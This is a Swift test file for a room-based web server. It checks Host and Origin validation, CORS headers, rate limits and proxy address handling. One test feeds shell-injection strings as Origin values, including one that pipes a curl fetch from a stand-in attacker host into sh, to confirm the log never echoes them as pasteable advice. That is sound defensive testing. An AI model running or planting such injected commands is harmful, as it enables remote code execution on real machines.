import RoomServer
import SharedRoom
import Testing

@testable import WebServer

@Test(arguments: [
    "evil.example", "evil.example:80", "127.0.0.1.evil.example", "localhost.evil.example",
])
func `a host name that is not the server's is refused`(host: String) throws {
    let server = try TestServer()
    let page = try server.get("/", host: host)
    #expect(page.status == 403)
    let line = try server.log.line(with: "Host")
    #expect(line.contains("--public-url http://\(host) would allow it"))
    #expect(try WebSocket(server, host: host).status == 403)
}

@Test(arguments: [
    "localhost", "LOCALHOST:8080", "10.1.2.3", "[fd00::2]:8080", "calc.example", "calc.example.",
])
func `IP addresses, localhost and the public host name are accepted`(host: String) throws {
    let server = try TestServer { $0.publicURL = "https://calc.example" }
    #expect(try server.get("/", host: host).status == 200)
}

/// The log of a server that has refused a WebSocket with this origin.
private func refusal(ofOrigin origin: String) throws -> String {
    let server = try TestServer()
    let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
    #expect(try WebSocket(server, headers: headers).status == 403)
    return try server.log.line(with: "page")
}

@Test(arguments: [
    "https://evil.example", "http://127.0.0.1:1", "http://127.0.0.1.evil.example",
    "HTTPS://[fd00::2]:8443",
])
func `a page of another server cannot open a room, and the log names the option that allows it`(
    origin: String
) throws {
    #expect(try refusal(ofOrigin: origin).contains("--origin \(origin) would allow it"))
}

/// Somebody may copy the advice into a shell.
@Test(arguments: [
    "null", "http://localhost/", "http://localhost/evil", "http://evil@localhost", "localhost",
    "http://x;curl${IFS}evil.example|sh", "http://$(id)", "http://`id`", "http://x y", "http://x'",
    "http://x:80&id", "https://*.example",
])
func `the log repeats no origin that the option would not accept`(origin: String) throws {
    #expect(try !refusal(ofOrigin: origin).contains("--origin"))
}

@Test func `pages of this server and of allowed origins can open rooms`() throws {
    let server = try TestServer {
        $0.origins = ["https://school.example"]
        $0.publicURL = "https://calc.example"
    }
    let own = "127.0.0.1:\(server.port)"
    for (origin, host) in [
        ("http://\(own)", own), ("https://school.example", own), ("https://calc.example", own),
        ("https://SCHOOL.example:443", own), ("https://10.1.2.3", "10.1.2.3"),
    ] {
        let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "Origin: \(origin)"]
        #expect(try WebSocket(server, host: host, headers: headers).status == 101, "\(origin)")
    }
}

@Test func `a script of another page learns from a room's page whether it may open the room`()
    throws
{
    let server = try TestServer { $0.origins = ["https://school.example"] }
    for (path, origin, status) in [
        ("/rooms/7b", "https://school.example", 200), ("/rooms/7b", "https://evil.example", 403),
        ("/rooms/7b", "null", 403), ("/rooms/a%20b", "https://school.example", 404),
        ("/rooms/7b/nothing", "https://school.example", 404),
    ] {
        let page = try server.get(path, headers: ["Origin: \(origin)"])
        #expect(page.status == status, "\(path) \(origin)")
        #expect(page["Access-Control-Allow-Origin"] == "*", "\(path) \(origin)")
    }
    for path in ["/", "/rooms/7b/state", "/rooms/7b/qr.svg", "/metrics"] {
        let other = try server.get(path, headers: ["Origin: https://school.example"])
        #expect(other["Access-Control-Allow-Origin"] == nil, "\(path)")
    }
    #expect(try server.get("/rooms/7b")["Access-Control-Allow-Origin"] == nil)
}

@Test func `a script of another page learns how long to wait`() throws {
    let server = try TestServer {
        $0.origins = ["https://school.example"]
        $0.limits[.answerBytesPerMinute] = 1_000
    }
    let headers = ["Origin: https://school.example"]
    #expect(try server.get("/rooms/7b", headers: headers).status == 200)
    let refused = try server.get("/rooms/7b", headers: headers)
    #expect(refused.status == 429 && refused["Retry-After"] != nil)
    #expect(refused["Access-Control-Allow-Origin"] == "*")
    #expect(refused["Access-Control-Expose-Headers"] == "Retry-After")
    let document = try server.get("/rooms/7b/qr.svg", headers: headers)
    #expect(document.status == 429 && document["Access-Control-Allow-Origin"] == nil)
}

@Test(arguments: [
    ("192.0.2.1", "192.0.2.1"), ("10.0.0.1, 192.0.2.1", "192.0.2.1"),
    ("2001:db8:1:2:3:4:5:6", "2001:db8:1:2::"), ("2001:db8::6", "2001:db8:0:0::"),
    ("::ffff:192.0.2.1", "192.0.2.1"),
])
func `the forwarded address is the last one, and an IPv6 network has one address`(
    header: String, address: String
) {
    #expect(ClientAddress(forwarded: header)?.text == address)
    #expect(ClientAddress(forwarded: "evil, unknown") == nil)
}

@Test func `clients behind a trusted proxy are counted by their own addresses`() throws {
    let server = try TestServer {
        $0.trustsProxy = true
        $0.limits[.joinsPerMinute] = 1
    }
    func status(from address: String) throws -> Int {
        let headers = ["Sec-WebSocket-Protocol: calcroom.v1", "X-Forwarded-For: \(address)"]
        return try WebSocket(server, headers: headers).status
    }
    #expect(try status(from: "192.0.2.1") == 101)
    #expect(try status(from: "192.0.2.2") == 101)
    #expect(try status(from: "192.0.2.9, 192.0.2.1") == 429)
}

@Test func `each request behind a proxy is charged to the client that it names`() throws {
    let server = try TestServer {
        $0.trustsProxy = true
        $0.limits[.answerBytesPerMinute] = 8_000
    }
    let proxy = try Socket(port: server.port)
    func status(from address: String?) throws -> Int {
        let header = address.map { "X-Forwarded-For: \($0)\r\n" } ?? ""
        try proxy.send("GET /healthz HTTP/1.1\r\nHost: localhost\r\n\(header)\r\n")
        let head = try proxy.read(through: "\r\n\r\n")
        _ = try proxy.read(through: "\n")
        return try #require(Int(head.split(separator: " ")[1]))
    }
    #expect(try status(from: "192.0.2.1") == 200)
    // A proxy that names nobody limits requests itself.
    for _ in 0..<20 { #expect(try status(from: nil) == 200) }
    #expect(try status(from: "192.0.2.1") == 200)
    while try status(from: "192.0.2.2") == 200 {}
    let other = try server.get("/healthz", headers: ["X-Forwarded-For: 192.0.2.2"])
    #expect(other.status == 429)
    #expect(try server.get("/", headers: ["X-Forwarded-For: 192.0.2.1"]).status == 200)
    #expect(try server.get("/", headers: ["X-Forwarded-For: nobody"]).status == 400)
}

@Test(arguments: [["Origin: https://evil.example"], ["Sec-Fetch-Site: cross-site"]])
func `requests of foreign pages do not count against the address of a visitor`(headers: [String])
    throws
{
    let server = try TestServer {
        $0.limits[.wrongCodesPerMinute] = 1
        $0.limits[.answerBytesPerMinute] = 8_000
    }
    for _ in 0..<3 {
        #expect(try server.get("/rooms/K7M2QX/state", headers: headers).status == 403)
    }
    let statuses = try (0..<10).map { _ in try server.get("/healthz", headers: headers).status }
    #expect(statuses.last == 429)
    #expect(try server.get("/rooms/K7M2QX/state").status == 404)
    #expect(try server.get("/").status == 200)
    // Following a link is a decision of a person.
    let link = ["Sec-Fetch-Site: cross-site", "Sec-Fetch-Dest: document"]
    #expect(try server.get("/", headers: link).status == 200)
}

@Test func `the log has the addresses of clients behind a trusted proxy`() throws {
    let lines = LogLines()
    let server = try TestServer {
        $0.trustsProxy = true
        $0.limits[.connectionsPerAddressMax] = 0
        $0.log = ServerLog(.text, showsAddresses: true) { lines.append($0) }
    }
    let headers = ["X-Forwarded-For: 192.0.2.1"]
    #expect(try server.get("/", host: "evil.example", headers: headers).status == 403)
    #expect(try lines.line(with: "unknown Host").contains("https://evil.example"))
    let protocols = ["Sec-WebSocket-Protocol: calcroom.v1"]
    #expect(try WebSocket(server, headers: headers + protocols).status == 429)
    for part in ["unknown Host", "connectionsPerAddressMax"] {
        #expect(try lines.line(with: part).hasSuffix("from 192.0.2.1"))
    }
}

@Test func `a server that listens only on IPv4 has no URL with an IPv6 address`() throws {
    let server = try TestServer { $0.host = "0.0.0.0" }
    let urls = ServerURLs.network(server.server.configuration, 80)
    #expect(!urls.contains { $0.contains("[") })
}
